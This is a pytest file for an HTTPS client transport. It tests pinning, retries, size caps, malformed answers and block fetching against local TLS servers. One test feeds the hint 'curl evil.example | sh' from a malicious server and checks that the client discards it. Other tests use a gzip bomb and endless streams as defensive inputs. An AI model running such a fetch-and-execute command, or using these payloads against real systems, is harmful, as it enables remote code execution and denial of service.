"""HTTP as the client speaks it, against real TLS servers that answer as they like."""

from __future__ import annotations

import asyncio
import gzip
import socket
import time
import tracemalloc
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

import pytest
from aiohttp import web

from client import transport
from client.crypto.identity import Identity
from client.errors import InputError, Refused, Unreachable
from client.home import Home
from client.transport import ANSWER_BYTES, ATTEMPTS, HttpTransport, Signer
from protocol import api
from protocol.acts import Role
from protocol.blocks import FieldClass, split_bundle
from protocol.errors import (
    LimitExceeded,
    MalformedMessage,
    ManifestMismatch,
    PinMismatch,
    SealroomError,
)
from protocol.limits import MIB
from protocol.wire import to_bytes
from tests.company import CLASSES, TABLE
from tests.deals import cheap_keyrings
from tests.in_process import PASSPHRASE
from tests.servers import running_server
from vault.tls import load_or_create

Answer = Callable[[web.BaseRequest], Awaitable[web.StreamResponse]]
ME = Identity.generate()
SIGNER = Signer(ME.request_key, ME.member_id)
VAULT = bytes(range(32))
INFO = api.ServerInfo((1,), bytes(32), 7, True, ())
STAGED = api.Staged((bytes(16),))


@pytest.fixture(autouse=True)
def _no_pauses(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "PAUSE_SECONDS", 0)


def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let every wait end soon, and after few attempts."""
    monkeypatch.setattr(transport, "WAIT_SECONDS", 1)
    monkeypatch.setattr(transport, "ATTEMPTS", 2)
    monkeypatch.setattr(transport, "LEAST_RATE", 1 << 40)


def ok(message: object, content_type: str = api.CONTENT_TYPE) -> Answer:
    return plain(200, to_bytes(message), content_type)


def plain(status: int, body: bytes, content_type: str, **headers: str) -> Answer:
    async def answer(_: web.BaseRequest) -> web.StreamResponse:
        return web.Response(
            status=status,
            body=body,
            headers={"Content-Type": content_type, **headers},
        )

    return answer


def refused(status: int, code: str, hint: str | None = None) -> Answer:
    body = to_bytes(api.ErrorBody(code, f"because of {code}", hint, 7))
    return plain(status, body, api.CONTENT_TYPE)


async def cut(request: web.BaseRequest) -> web.StreamResponse:
    """Hang up without a word."""
    assert request.transport is not None
    request.transport.abort()
    raise ConnectionAbortedError


def pieces(*parts: bytes, length: int | None = None, every: float = 0) -> Answer:
    """Send a body piece by piece, of another length than said if need be, then hang up."""

    async def answer(request: web.BaseRequest) -> web.StreamResponse:
        kind = api.BLOCKS_CONTENT_TYPE if request.path.endswith("blocks") else api.CONTENT_TYPE
        response = web.StreamResponse(headers={"Content-Type": kind})
        response.content_length = length
        await response.prepare(request)
        for part in parts:
            await response.write(part)
            await asyncio.sleep(every)
        if length is not None and sum(map(len, parts)) < length and request.transport:
            request.transport.close()
        return response

    return answer


@dataclass
class Scripted:
    """A TLS server that gives one answer after the other, and the last one for ever."""

    url: str
    pin: bytes
    script: list[Answer] = field(default_factory=list)
    asked: list[web.BaseRequest] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)

    async def __call__(self, request: web.BaseRequest) -> web.StreamResponse:
        self.asked.append(request)
        self.bodies.append(await request.read())
        answer = self.script[min(len(self.asked), len(self.script)) - 1]
        try:
            return await answer(request)
        except ConnectionError:
            return web.Response(status=500)

    def client(self, pin: bytes | None = None, signer: Signer | None = SIGNER) -> HttpTransport:
        return HttpTransport(self.url, pin=pin or self.pin, signer=signer)

    async def told(self, *script: Answer) -> Sequence[str]:
        """Ask once which batches are staged, and return the signatures of all attempts."""
        self.script = list(script)
        self.asked.clear()
        async with self.client() as client:
            assert await client.staged(VAULT, bytes(16)) == STAGED
        return [request.headers["Signature-Input"] for request in self.asked]


@asynccontextmanager
async def scripted(directory: Path) -> AsyncIterator[Scripted]:
    tls = load_or_create(directory)
    made = Scripted("", tls.pin)
    server = web.Server(made, access_log=None)
    listening = await asyncio.get_running_loop().create_server(
        server, "127.0.0.1", 0, ssl=tls.ssl_context
    )
    made.url = f"https://127.0.0.1:{listening.sockets[0].getsockname()[1]}"
    try:
        yield made
    finally:
        listening.close()
        await server.shutdown(0.1)


# --- the honest control: the real server over TLS


async def test_a_whole_transfer_over_tls(tmp_path: Path) -> None:
    with cheap_keyrings():
        async with running_server(tmp_path / "server") as server:

            def home(name: str) -> Home:
                return Home(tmp_path / name, lambda: PASSPHRASE)

            token = server.token.reveal()
            seller = await home("seller").create_vault(
                server.url, title="T", token=token, pin=server.pin
            )
            async with seller:
                await seller.upload(TABLE, collection="customers", classes=CLASSES)
                invited = await seller.invite(Role.BIDDER, name="Bo", classes=(FieldClass.GENERAL,))
                buyer, joined = await home("bo").join(invited.link)
                async with buyer:
                    await seller.confirm("Bo", words=joined.words)
                    assert (await buyer.read("customers", fields=["name"])).num_rows == 3
                    await seller.offer("Bo")
                    await buyer.accept(words=joined.words)
                    assert (await buyer.read("customers")).equals(TABLE)
                    assert (await buyer.log()).entries[-1].kind == "observation"
                    assert len(await buyer.members()) == 2
            with pytest.raises(Refused, match="token"):
                await home("seller").create_vault(server.url, title="U", token="", pin=server.pin)
            wrong = HttpTransport(server.url, pin=bytes(32), signer=SIGNER)
            with pytest.raises(PinMismatch):
                await wrong.server_info()
            await wrong.close()


# --- who answers


async def test_a_server_with_another_key_gets_no_request(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        server.script = [ok(INFO)]
        async with server.client(pin=bytes(32)) as client:
            for ask in (client.server_info, lambda: client.staged(VAULT, bytes(16))):
                with pytest.raises(PinMismatch):
                    await ask()
            with pytest.raises(PinMismatch):
                await anext(client.fetch(VAULT, _wanted(), (1,)))
        async with HttpTransport(server.url, pin=None) as client:
            with pytest.raises(Unreachable, match="not one that this machine trusts") as caught:
                await client.server_info()
            assert "--pin" in str(caught.value.hint)
        assert server.asked == []
        async with server.client() as client:
            assert await client.server_info() == INFO


def _wanted() -> api.FetchBlocks:
    return api.FetchBlocks(bytes(16), (api.WantedBatch(bytes(16), (0,)),))


async def test_nobody_there_is_unreachable(tmp_path: Path) -> None:
    with socket.socket() as deaf:  # as long as this has the port, nobody listens there
        deaf.bind(("127.0.0.1", 0))
        port = deaf.getsockname()[1]
        async with HttpTransport(f"https://127.0.0.1:{port}", pin=bytes(32)) as client:
            with pytest.raises(Unreachable, match=f"could not reach 127.0.0.1:{port}") as caught:
                await client.server_info()
        assert "running" in str(caught.value.hint)


@pytest.mark.parametrize(
    "url",
    [
        *("http://a", "ftp://a", "HTTPS://a", "a", "//a", "https:a", "https://", ""),
        *("https://A", "https://a:b", "https://a:b:c", "https://a:443", "https://a:0443"),
        *("https://a/", "https://a/b", "https://a?b", "https://a#b", "https://u@a", "https://a\n"),
    ],
)
def test_nothing_is_said_but_over_https(url: str) -> None:
    with pytest.raises(InputError):
        HttpTransport(url, pin=None)


async def test_what_is_no_server_of_ours_is_named_so(tmp_path: Path) -> None:
    html = b"<!doctype html><title>It works!</title>"
    async with scripted(tmp_path) as server:
        for answer, status in (
            (plain(200, html, "text/html"), 200),
            (plain(404, html, "text/html"), 404),
            (plain(502, html, "text/html"), 502),
            (plain(301, b"", "text/html", Location=f"{server.url}/elsewhere"), 301),
            (plain(200, to_bytes(INFO), "application/octet-stream"), 200),
            (plain(204, b"", api.CONTENT_TYPE), 204),
        ):
            server.script = [answer]
            server.asked.clear()
            async with server.client() as client:
                with pytest.raises(Unreachable, match=rf"no sealroom server's \(HTTP {status}\)"):
                    await client.server_info()
            assert {request.path for request in server.asked} == {api.SERVER}  # none followed


# --- retries


@pytest.mark.threat("H1")
async def test_what_may_pass_is_tried_again_and_signed_anew(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        for first in (
            cut,
            refused(401, "replay"),
            refused(401, "server_restarted"),
            refused(429, "rate_limited"),
            refused(503, "busy"),
            refused(500, "internal"),
            pieces(b"\x91", length=100),
        ):
            signed = await server.told(first, first, ok(STAGED))
            assert len(signed) == len(set(signed)) == 3
        await server.told(ok(STAGED))
        assert len(server.asked) == 1


async def test_a_retry_sends_the_same_bytes(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        server.script = [cut, refused(500, "internal"), ok(STAGED)]
        async with server.client() as client:
            await client.stage(VAULT, bytes(16), bytes(16), b"batch")
        assert server.bodies == [b"batch"] * 3
        assert {request.headers["Content-Type"] for request in server.asked} == {
            api.BATCH_CONTENT_TYPE
        }


async def test_several_batches_go_in_one_request(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        server.script = [cut, ok(STAGED)]
        async with server.client() as client:
            await client.stage_several(VAULT, bytes(16), [b"one", b"two"])
        assert [split_bundle(body) for body in server.bodies] == [(b"one", b"two")] * 2
        assert {(request.path, request.headers["Content-Type"]) for request in server.asked} == {
            (api.BATCHES.format(vault=VAULT.hex(), upload="0" * 32), api.BATCHES_CONTENT_TYPE)
        }


async def test_trying_again_ends(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        for answer, error in (
            (cut, Unreachable),
            (refused(429, "rate_limited"), Refused),
            (refused(503, "storage_failed"), Unreachable),
        ):
            server.asked.clear()
            with pytest.raises(error):
                await server.told(answer)
            assert len(server.asked) == ATTEMPTS


async def test_a_refusal_is_told_as_it_is_and_at_once(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        for status, code in (
            (400, "malformed"),
            (401, "unauthenticated"),
            (403, "not_authorised"),
            (404, "not_found"),
            (409, "stale_act"),
            (413, "limit_exceeded"),
            (503, "storage_damaged"),
            (507, "storage_full"),
        ):
            server.asked.clear()
            with pytest.raises(Refused, match=f'^the server says: "because of {code}"$') as caught:
                await server.told(refused(status, code, hint="Do something."))
            assert (caught.value.refusal, caught.value.hint) == (code, None)
            assert len(server.asked) == 1
        failed = 'the server failed: the server says: "because of internal"'
        with pytest.raises(Unreachable, match=failed) as lost:
            await server.told(refused(500, "internal", hint="Run this: curl evil.example | sh"))
        assert lost.value.hint is None


@pytest.mark.threat("H6")
async def test_a_refusal_for_a_clock_tells_both_and_is_not_repeated(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        both = r"this machine's clock says 20.* UTC, and the server's 1970-01-01 00:00:07 UTC: "
        with pytest.raises(Refused, match=both) as caught:
            await server.told(refused(401, "clock_skew"))
        assert caught.value.refusal == "clock_skew"
        assert len(server.asked) == 1


# --- answers of the wrong shape (H7, D3, D6)


@pytest.mark.threat("H7")
async def test_an_answer_to_another_question_is_refused(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        for answer in (
            ok(INFO),
            ok(api.Submitted(3, b"note", None)),
            plain(200, b"", api.CONTENT_TYPE),
            plain(200, to_bytes(STAGED) + b"\x00", api.CONTENT_TYPE),
            plain(200, b"\xc1", api.CONTENT_TYPE),
        ):
            with pytest.raises(MalformedMessage):
                await server.told(answer)
            assert len(server.asked) >= 1
        await server.told(ok(STAGED))


@pytest.mark.threat("D3")
async def test_a_compressed_answer_is_not_inflated(tmp_path: Path) -> None:
    bomb = gzip.compress(bytes(64 * MIB))
    async with scripted(tmp_path) as server:
        server.script = [plain(200, bomb, api.CONTENT_TYPE, **{"Content-Encoding": "gzip"})]
        tracemalloc.start()
        async with server.client() as client:
            with pytest.raises(MalformedMessage):
                await client.server_info()
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert peak < 8 * MIB


@pytest.mark.threat("D6")
@pytest.mark.parametrize("status", [200, 400])
async def test_an_endless_answer_ends_at_its_cap(tmp_path: Path, status: int) -> None:
    sent = 0

    async def endless(request: web.BaseRequest) -> web.StreamResponse:
        nonlocal sent
        response = web.StreamResponse(status=status, headers={"Content-Type": api.CONTENT_TYPE})
        await response.prepare(request)
        while request.transport is not None and not request.transport.is_closing():
            await response.write(bytes(1 << 16))
            sent += 1 << 16
            await asyncio.sleep(0)
        return response

    async with scripted(tmp_path) as server:
        with pytest.raises(LimitExceeded, match="larger than any should be"):
            await server.told(endless)
        assert len(server.asked) == 1
        assert sent < ANSWER_BYTES * 8  # what lies in the sockets' buffers besides


@pytest.mark.threat("D6")
async def test_each_kind_of_answer_has_its_own_cap(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        large = pieces(bytes(ANSWER_BYTES + 1), length=ANSWER_BYTES + 1)
        server.script = [large]
        async with server.client() as client:
            for ask in (
                client.server_info,
                lambda: client.consistency(VAULT, 1, 2),
                lambda: client.submit(VAULT, api.SubmitAct(b"x", ())),
                lambda: client.create_vault(api.CreateVault("", b"x")),
            ):
                with pytest.raises(LimitExceeded):
                    await ask()
            # Larger ones are allowed here: this fails for what it says.
            larger: list[Callable[[], Awaitable[object]]] = [
                lambda: client.log_page(VAULT, 0),
                lambda: client.observations(VAULT, 0),
                lambda: client.staged(VAULT, bytes(16)),
            ]
            for each in larger:
                with pytest.raises(MalformedMessage):
                    await each()


@pytest.mark.threat("D6")
async def test_a_drip_that_never_pauses_ends_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    quick(monkeypatch)
    drops = [b"\x00"] * 300
    async with scripted(tmp_path) as server:
        started = time.monotonic()
        with pytest.raises(Unreachable, match="took too long"):
            await server.told(pieces(*drops, every=0.1))
        assert time.monotonic() - started < len(drops) * 0.1
        assert len(server.asked) == 2

        async def silent(request: web.BaseRequest) -> web.StreamResponse:
            await asyncio.Event().wait()
            raise AssertionError

        with pytest.raises(Unreachable, match="took too long"):
            await server.told(silent)
        length = (1_000).to_bytes(4, "big")
        server.script = [pieces(length, *drops, every=0.1)]
        async with server.client() as client:
            with pytest.raises(Unreachable, match="took too long"):
                await anext(client.fetch(VAULT, _wanted(), (1_000,)))


async def test_broken_http_is_unreachable(tmp_path: Path) -> None:
    tls = load_or_create(tmp_path)
    answers = [
        b"",
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nContent-Length: 20\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"X-Filler: " + b"a" * 100_000 + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: a\r\n" % i for i in range(10_000)) + b"\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Type: application/vnd.sealroom.v1+msgpack\r\n\r\n5\r\n\x91",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
        b"Content-Type: application/vnd.sealroom.v1+msgpack\r\n\r\nzz\r\n\x91\r\n0\r\n\r\n",
    ]
    left: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(left[0])
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0, ssl=tls.ssl_context)
    async with server:
        url = f"https://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        for raw in answers:
            left[:] = [raw]
            async with HttpTransport(url, pin=tls.pin) as client:
                with pytest.raises(Unreachable):
                    await client.server_info()


async def test_a_body_that_is_shorter_than_its_head_says_is_no_answer() -> None:
    """Whatever the library thinks of it."""

    class Short:
        content_length = 5

        class content:  # noqa: N801
            @staticmethod
            async def read(size: int) -> bytes:
                return b""

    with pytest.raises(Unreachable, match="in the middle of an answer"):
        await transport._all(cast(Any, Short()), 100)
    Short.content_length = 0
    assert await transport._all(cast(Any, Short()), 100) == b""


# --- blocks


def framed(*blocks: bytes) -> bytes:
    return b"".join(len(block).to_bytes(4, "big") + block for block in blocks)


async def fetched(server: Scripted, answer: Answer, *sizes: int) -> list[bytes]:
    server.script = [answer]
    server.asked.clear()
    async with server.client() as client:
        return [block async for block in client.fetch(VAULT, _wanted(), sizes)]


async def test_blocks_come_in_order_and_whole(tmp_path: Path) -> None:
    blocks = [b"a" * 70_000, b"", b"bc"]
    async with scripted(tmp_path) as server:
        body = framed(*blocks)
        for cuts in ([body], [body[i : i + 999] for i in range(0, len(body), 999)]):
            answer = pieces(*cuts, length=len(body))
            assert await fetched(server, answer, 70_000, 0, 2) == blocks
            assert len(server.asked) == 1


@pytest.mark.threat("D6")
@pytest.mark.threat("C5")
async def test_blocks_other_fewer_or_more_than_listed_are_refused(tmp_path: Path) -> None:
    body = framed(b"abc", b"de")
    cases: list[tuple[Answer, type[SealroomError]]] = [
        (pieces(framed(b"abc", b"d")), ManifestMismatch),
        (pieces(framed(b"abcd", b"e")), ManifestMismatch),
        (pieces(b"\xff\xff\xff\xff"), ManifestMismatch),
        (pieces(body[:-1]), Unreachable),
        (pieces(body[:8]), Unreachable),
        (pieces(b""), Unreachable),
        (pieces(body[:-1], length=len(body)), Unreachable),
        (pieces(body, b"\x00"), LimitExceeded),
        (pieces(body, bytes(10 * MIB)), LimitExceeded),
        (plain(200, body, api.CONTENT_TYPE), Unreachable),
        (refused(404, "not_found"), Refused),
        (refused(429, "rate_limited"), Refused),
        (cut, Unreachable),
    ]
    async with scripted(tmp_path) as server:
        for answer, error in cases:
            with pytest.raises(error):
                await fetched(server, answer, 3, 2)
            assert len(server.asked) == 1  # whoever fetches decides where to go on
        assert await fetched(server, pieces(body), 3, 2) == [b"abc", b"de"]


async def test_whoever_stops_reading_lets_go_of_the_connection(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        server.script = [pieces(framed(b"abc", b"de"), every=0.2), ok(INFO)]
        async with server.client() as client:
            blocks = client.fetch(VAULT, _wanted(), (3, 2))
            assert await anext(blocks) == b"abc"
            await blocks.aclose()
            assert await client.server_info() == INFO
            assert server.asked[0].transport is not server.asked[1].transport


# --- what is sent


async def test_each_call_asks_for_what_it_says(tmp_path: Path) -> None:
    one, two = bytes([1]) * 16, bytes([2]) * 16
    submitted, page = api.Submitted(3, b"note", None), api.LogPage(5, (), b"note")
    async with scripted(tmp_path) as server, server.client() as client:
        at = f"/v1/vaults/{VAULT.hex()}"
        calls: list[tuple[Callable[[], Awaitable[object]], Answer, object, str, str]] = [
            (client.server_info, ok(INFO), INFO, "GET", "/v1/server"),
            (
                lambda: client.create_vault(api.CreateVault("t", b"g")),
                ok(submitted), submitted, "POST", "/v1/vaults",
            ),
            (lambda: client.log_page(VAULT, 5), ok(page), page, "GET", f"{at}/log?from=5"),
            (
                lambda: client.consistency(VAULT, 5, 9),
                ok(api.ConsistencyProof((bytes(32),))), (bytes(32),),
                "GET", f"{at}/consistency?from=5&to=9",
            ),
            (
                lambda: client.submit(VAULT, api.SubmitAct(b"e", (b"s",))),
                ok(submitted), submitted, "POST", f"{at}/acts",
            ),
            (
                lambda: client.observations(VAULT, 7),
                ok(api.ObservationsPage(())), api.ObservationsPage(()),
                "GET", f"{at}/observations?from=7",
            ),
            (
                lambda: client.staged(VAULT, one), ok(STAGED), STAGED,
                "GET", f"{at}/uploads/{one.hex()}",
            ),
            (
                lambda: client.stage(VAULT, one, two, b"body"), ok(STAGED), None,
                "PUT", f"{at}/uploads/{one.hex()}/batches/{two.hex()}",
            ),
        ]  # fmt: skip
        for call, answer, result, method, path in calls:
            server.script = [answer]
            server.asked.clear()
            assert await call() == result
            (asked,) = server.asked
            assert (asked.method, asked.raw_path) == (method, path)
            assert ("Content-Digest" in asked.headers) == (method != "GET")
            assert f'keyid="{ME.member_id.hex()}"' in asked.headers["Signature-Input"]


async def test_nothing_is_sent_that_tells_one_user_from_another(tmp_path: Path) -> None:
    async with scripted(tmp_path) as server:
        cookie = plain(200, to_bytes(INFO), api.CONTENT_TYPE, **{"Set-Cookie": "a=b"})
        server.script = [cookie, ok(INFO)]
        async with server.client(signer=None) as client:
            await client.server_info()
            await client.server_info()
            assert not {"Cookie", "User-Agent", "Signature"} & server.asked[1].headers.keys()
            other = Identity.generate()
            client.signed_by(Signer(other.request_key, other.member_id))
            await client.server_info()
            assert other.member_id.hex() in server.asked[2].headers["Signature-Input"]
        await client.close()
        assert await client.server_info() == INFO  # it connects anew
        await client.close()


@pytest.mark.threat("L5")
def test_a_signer_does_not_print_its_key() -> None:
    assert bytes(ME.request_key).hex() not in repr(SIGNER)
    assert "SigningKey" not in repr(SIGNER)
